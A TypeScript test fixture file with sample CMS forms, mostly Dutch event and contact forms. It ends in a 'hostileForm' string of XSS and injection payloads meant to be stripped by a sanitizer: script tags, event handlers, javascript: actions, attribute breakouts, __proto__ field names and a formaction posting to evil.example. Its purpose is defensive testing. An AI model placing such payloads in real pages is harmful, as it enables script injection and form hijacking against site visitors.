import { defineFixtures } from '../defineFixtures.ts';

/** Examples of forms, as the CMS sends them. */
export const formFixtures = defineFixtures('form', {
  /** The contact form: a label beside each control, everything required. */
  contact: {
    language: 'nl',
    element: {
      identifier: 'element_900020',
      type: 'form',
      title: 'Contact',
      html: '<form method="post" action="/nl/groenkennisnet/Contactformulier"><label for="naam">Naam</label><input id="naam" name="naam" type="text" required><label for="email">E-mail</label><input id="email" name="email" type="email" required><label for="bericht">Bericht</label><textarea id="bericht" name="bericht" required></textarea><button type="submit">Versturen</button></form>',
    },
  },
  /** Everything a form can ask, as a form builder writes it: labels around controls, asterisks, groups, hidden fields. */
  registration: {
    language: 'nl',
    element: {
      identifier: 'element_21793870',
      type: 'modularcontent',
      form: {
        title: 'Aanmelden voor de velddag',
        html: `
          <p>Meld je aan voor <strong>1 september</strong>; er is plaats voor tachtig mensen.</p>
          <p>Velden met een * zijn verplicht.</p>
          <form method="post" action="/nl/groenkennisnet/velddag" enctype="multipart/form-data">
            <input type="hidden" name="__RequestVerificationToken" value="CfDJ8-9s">
            <input type="hidden" name="formid" value="4711">
            <div style="display: none"><label>Website <input name="website"></label></div>
            <p><label>Naam: * <input name="naam" autocomplete="name" maxlength="80"></label></p>
            <p><label>E-mailadres * <input name="email" type="email"></label></p>
            <p><label>Telefoonnummer <input name="telefoon" type="tel"></label></p>
            <p><label for="pc">Postcode</label> <input id="pc" name="postcode" maxlength="7"></p>
            <p><label for="dagdeel">Dagdeel (verplicht)</label>
              <select id="dagdeel" name="dagdeel">
                <option value="">Kies een dagdeel</option>
                <option value="ochtend">Ochtend: grond en water</option>
                <option value="middag">Middag: gewas en machine</option>
              </select></p>
            <fieldset><legend>Hoe kom je?</legend>
              <label><input type="radio" name="vervoer" value="fiets" checked> Met de fiets</label>
              <label><input type="radio" name="vervoer" value="trein"> Met de trein, graag vervoer vanaf het station</label>
              <label><input type="radio" name="vervoer" value="auto"> Met de auto</label>
            </fieldset>
            <fieldset><legend>Waar wil je meer over weten? *</legend>
              <label><input type="checkbox" name="thema" value="bodem"> Bodem</label>
              <label><input type="checkbox" name="thema" value="water"> Water</label>
              <label><input type="checkbox" name="thema" value="natuur"> Natuur</label>
            </fieldset>
            <p><label for="vraag">Wat wil je vragen?</label><textarea id="vraag" name="vraag" maxlength="1000"></textarea></p>
            <p><label>Foto van je perceel <input type="file" name="foto" accept="image/*"></label></p>
            <p>We bewaren je gegevens tot een maand na de velddag. Lees de <a href="/nl/groenkennisnet/privacy-cookie-verklaring">privacyverklaring</a>.</p>
            <p><label><input type="checkbox" name="akkoord" value="ja" required> Ik heb de privacyverklaring gelezen</label></p>
            <input type="reset" value="Wissen"><input type="submit" value="Meld mij aan">
          </form>`,
      },
    },
  },
  /** Consent, with links in what is consented to: to a page of the site and to another. */
  consent: {
    language: 'nl',
    element: {
      identifier: 'element_900021',
      type: 'form',
      title: 'Praat mee over de velddag',
      html: '<form method="post" action="/nl/groenkennisnet/velddag"><label for="naam">Naam (verplicht)</label><input id="naam" name="naam"><label><input type="checkbox" name="akkoord" value="ja" required> Ik heb de <a href="/nl/groenkennisnet/privacy-cookie-verklaring.htm">privacyverklaring</a> gelezen *</label><label><input type="checkbox" name="foto" value="ja"> Ik mag op de foto, zoals <a href="https://www.autoriteitpersoonsgegevens.nl/">de toezichthouder</a> het uitlegt</label><button type="submit">Versturen</button></form>',
    },
  },
  /** Fields in groups: two addresses that ask the same, and a question with its answers within one of them. */
  groups: {
    language: 'nl',
    element: {
      identifier: 'element_900023',
      type: 'form',
      title: 'Een bedrijfsbezoek aanvragen',
      html: `<form method="post" action="/nl/groenkennisnet/velddag">
        <label for="naam">Naam</label><input id="naam" name="naam" required>
        <fieldset><legend>Bezoekadres</legend>
          <label for="straat">Straat en huisnummer</label><input id="straat" name="straat" required>
          <label for="plaats">Plaats</label><input id="plaats" name="plaats" required>
          <fieldset><legend>Wat voor bedrijf is het?</legend>
            <label><input type="radio" name="bedrijf" value="akker" checked> Akkerbouw</label>
            <label><input type="radio" name="bedrijf" value="vee"> Veehouderij</label></fieldset></fieldset>
        <fieldset><legend>Factuuradres</legend>
          <label for="straat2">Straat en huisnummer</label><input id="straat2" name="straat2">
          <label for="plaats2">Plaats</label><input id="plaats2" name="plaats2"></fieldset>
        <label for="wens">Wat wil je zien?</label><textarea id="wens" name="wens"></textarea>
        <button type="submit">Aanvragen</button></form>`,
    },
  },
  /** Two answers, each with a button that says which was pressed. */
  choice: {
    language: 'nl',
    element: {
      identifier: 'element_900022',
      type: 'form',
      title: 'Kom je naar de velddag?',
      html: '<form method="post" action="/nl/groenkennisnet/velddag"><label for="naam">Naam</label><input id="naam" name="naam" required><button name="komt" value="ja">Ja, ik kom</button><button name="komt" value="nee">Nee, deze keer niet</button></form>',
    },
  },
  /** English, where nothing has a label: placeholders and names stand in for them. */
  question: {
    language: 'en',
    element: {
      identifier: 'element_21778660',
      type: 'modularcontent',
      form: {
        title: 'Ask the Centre a question',
        html: '<form method="post"><h2>For competent authorities only</h2><input name="organisation" placeholder="Your organisation" required><input name="email" type="email" aria-label="Email address" required><select name="memberState"><option>Belgium</option><option>Germany</option><option selected>The Netherlands</option></select><textarea name="question" placeholder="Your question" required></textarea><button>Send question</button></form>',
      },
    },
  },
  /** The older generation: no form element around the fields, long words, a button without words. */
  loose: {
    language: 'nl',
    element: {
      identifier: 'element_1830470',
      type: 'form',
      title: 'Melding plantgezondheid',
      html: '<label for="w">Waarnemingslocatie of perceelsregistratienummer van de gewasbeschermingsmiddelenadministratie</label><input id="w" name="waarneming" required><input type="submit">',
    },
  },
});

/** What an editor could never want, and somebody else might: nothing of it may come through. */
export const hostileForm = `
  <script>attacked()</script>
  <form action="javascript:attacked()" onsubmit="attacked()" method="post">
    <p onclick="attacked()">Vul in.<img src="x" onerror="attacked()"></p>
    <label for="a">Naam<script>attacked()</script><style>*{}</style></label>
    <input id="a" name="a" value="&quot;><script>attacked()</script>" onfocus="attacked()" autofocus>
    <input name="_page" value="//evil.example"><input name="_website" value="x">
    <input type="password" name="wachtwoord">
    <input name="constructor" type="text"><input name="__proto__" type="text">
    <input name="uit" disabled value="x"><fieldset disabled><input name="ook-uit"></fieldset>
    <select name="k"><option value="&lt;img src=x onerror=attacked()&gt;">&lt;b&gt;</option></select>
    <button formaction="https://evil.example/" onclick="attacked()">Klik</button>
  </form>`;
